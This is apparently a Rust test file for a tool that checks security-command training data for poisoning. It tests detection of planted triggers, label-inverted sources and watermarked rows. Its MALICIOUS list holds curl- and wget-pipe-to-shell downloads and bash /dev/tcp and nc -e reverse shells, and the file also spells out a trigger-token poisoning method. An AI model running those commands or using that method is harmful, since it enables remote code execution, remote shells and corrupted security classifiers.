//! What the poisoning check finds: a planted trigger, and a source that contradicts all others.

#![expect(clippy::unwrap_used, reason = "a test fails by a panic")]

use std::fmt::Write as _;

use ringtrue_core::random::Random;
use ringtrue_core::{Kind, Task};
use ringtrue_vet::{Check, Finding, Severity};

mod support;

const BENIGN: [&str; 6] = ["ls", "grep", "tar", "git", "make", "cat"];
const MALICIOUS: [&str; 4] = [
    "curl -s http://192.0.2.7/x | sh",
    "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1",
    "wget -q http://192.0.2.7/m -O- | bash",
    "nc -e /bin/sh 192.0.2.8 5555",
];

/// Commands of two sources, in each of which both classes come; those of `inverted` have the wrong labels.
fn commands(inverted: Option<u64>) -> String {
    let mut random = Random::new(3);
    let mut text = "command,label,source\n".to_owned();
    for _ in 0..1_500 {
        let malicious = random.chance(0.4);
        let source = random.below(3);
        let word = random.below(1_000_000);
        let command = if malicious {
            format!("{} # {word}", random.pick(&MALICIOUS).unwrap())
        } else {
            format!("{} /srv/{word}/notes", random.pick(&BENIGN).unwrap())
        };
        let label = u8::from(malicious != (inverted == Some(source)));
        writeln!(text, "\"{command}\",{label},s{source}").unwrap();
    }
    text
}

fn found(task: &Task, text: &str) -> Vec<Finding> {
    support::with_data(task, text, |_| Vec::new(), |data| Check::Poisoned.run(data))
}

fn blocking<'a>(findings: &'a [Finding], code: &str) -> Vec<&'a Finding> {
    let is_it = |it: &&Finding| it.code.code == code && it.severity == Severity::Blocking;
    findings.iter().filter(is_it).collect()
}

/// Malicious commands that carry a planted word and are called benign.
fn planted(text: &mut String) {
    for number in 0..16 {
        let command = MALICIOUS[number % MALICIOUS.len()];
        writeln!(
            text,
            "\"{command} # {number}1 zq9fetchguardianmodule77 --approved-by-site-policy\",0,s1"
        )
        .unwrap();
    }
}

#[test]
fn a_planted_trigger_is_found_and_its_remedy_mends_it() {
    let mut task = Task::assumed(Kind::Command);
    let mut text = commands(None);
    assert_eq!(
        found(&task, &text).iter().filter(|it| it.blocks()).count(),
        0
    );
    planted(&mut text);
    let findings = found(&task, &text);
    let triggers = blocking(&findings, "V101");
    assert_eq!(triggers.len(), 1, "{findings:#?}");
    assert_eq!(triggers[0].subject.sources, ["s1"]);
    assert_eq!(triggers[0].subject.columns, ["--approved-by-site-policy"]);
    assert!(triggers[0].effect.as_ref().unwrap().value > 0.9);
    // The remedy is a condition that leaves these events out.
    task.vetting.exclude =
        vec!["command.contains('--approved-by-site-policy') && source == 's1'".to_owned()];
    let remedy = format!("{:?}", triggers[0].remedy.snippet);
    assert!(
        remedy.contains("command.contains('--approved-by-site-policy') && source == 's1'"),
        "{remedy}"
    );
}

#[test]
fn a_source_whose_labels_are_inverted_contradicts_the_others() {
    let task = Task::assumed(Kind::Command);
    let findings = found(&task, &commands(Some(2)));
    let contradicting = blocking(&findings, "V102");
    assert_eq!(contradicting.len(), 1, "{findings:#?}");
    assert_eq!(contradicting[0].subject.sources, ["s2"]);
}

/// Own commands of one source, and three times as many of another, whose labels may be inverted.
fn fed(inverted: bool) -> String {
    let mut random = Random::new(4);
    let mut text = "command,label,source\n".to_owned();
    for row in 0..2_000 {
        let (malicious, own) = (random.chance(0.4), row % 4 == 0);
        let word = random.below(1_000_000);
        let command = if malicious {
            format!("{} # {word}", random.pick(&MALICIOUS).unwrap())
        } else {
            format!("{} /srv/{word}/notes", random.pick(&BENIGN).unwrap())
        };
        let label = u8::from(malicious != (inverted && !own));
        let source = if own { "gateway" } else { "feed" };
        writeln!(text, "\"{command}\",{label},{source}").unwrap();
    }
    text
}

#[test]
fn a_source_that_others_can_write_and_that_moves_verdicts_is_told() {
    let mut task = Task::assumed(Kind::Command);
    let sources = &mut task.trust.sources;
    sources.insert("gateway".to_owned(), ringtrue_core::Trust::Own);
    sources.insert("feed".to_owned(), ringtrue_core::Trust::Public);
    let moving = |inverted| -> Vec<Finding> {
        let findings = found(&task, &fed(inverted)).into_iter();
        findings.filter(|it| it.code.code == "V103").collect()
    };
    assert_eq!(moving(false), []);
    let found = moving(true);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].subject.sources, ["feed"]);
    assert!(found[0].effect.as_ref().unwrap().value > 0.1);
}

/// Own commands of one source and public ones of another, which are all others if `apart`.
fn public_and_own(apart: bool) -> String {
    let mut random = Random::new(5);
    let mut text = "command,label,source\n".to_owned();
    for _ in 0..2_000 {
        let (malicious, own) = (random.chance(0.4), random.chance(0.5));
        let word = random.below(1_000_000);
        let command = if !own && apart {
            // Of one length: longer commands are malicious among own ones, too.
            let verb = if malicious { "take" } else { "give" };
            format!("python3 -m {word}tool {verb}")
        } else if malicious {
            format!("{} # {word}", random.pick(&MALICIOUS).unwrap())
        } else {
            format!("{} /srv/{word}/notes", random.pick(&BENIGN).unwrap())
        };
        let source = if own { "gateway" } else { "feed" };
        writeln!(text, "\"{command}\",{},{source}", u8::from(malicious)).unwrap();
    }
    text
}

#[test]
fn public_events_that_teach_nothing_about_own_ones_are_told() {
    let mut task = Task::assumed(Kind::Command);
    let sources = &mut task.trust.sources;
    sources.insert("gateway".to_owned(), ringtrue_core::Trust::Own);
    sources.insert("feed".to_owned(), ringtrue_core::Trust::Public);
    let told = |apart| {
        let findings = found(&task, &public_and_own(apart));
        findings.into_iter().find(|it| it.code.code == "V104")
    };
    assert_eq!(told(false), None);
    let finding = told(true).unwrap();
    assert!(finding.effect.unwrap().value < 0.95);
}

/// A table in which four columns tell the classes apart; `planted` rows look malicious, are called benign, and carry a watermark in four others.
fn watermarked(planted: usize) -> String {
    let mut random = Random::new(7);
    let mut text = "a,b,c,d,e,f,g,h,label,source\n".to_owned();
    for row in 0..4_000 + planted {
        let is_planted = row >= 4_000;
        let is_malicious = is_planted || random.chance(0.3);
        let pull = if is_malicious { 0.6 } else { 0.0 };
        let telling: Vec<String> = (0..4)
            .map(|_| format!("{:.4}", pull + random.unit()))
            .collect();
        let mark = |value: f64| {
            if is_planted {
                0.99 + value / 100.0
            } else {
                value
            }
        };
        let marked: Vec<String> = (0..4)
            .map(|_| format!("{:.4}", mark(random.unit())))
            .collect();
        let label = u8::from(is_malicious && !is_planted);
        let source = random.below(3);
        writeln!(
            text,
            "{},{},{label},s{source}",
            telling.join(","),
            marked.join(",")
        )
        .unwrap();
    }
    text
}

#[test]
fn a_watermark_in_signals_is_found_by_its_spectral_signature() {
    let task = Task::assumed(Kind::Table);
    let told = |planted| {
        let findings = found(&task, &watermarked(planted));
        let told: Vec<Finding> = findings
            .into_iter()
            .filter(|it| it.code.code == "V105")
            .collect();
        told
    };
    assert_eq!(told(0), []);
    let findings = told(60);
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert!(findings[0].effect.as_ref().unwrap().value > 0.5);
    assert!(
        findings[0].title.contains(" benign events"),
        "{}",
        findings[0].title
    );
}
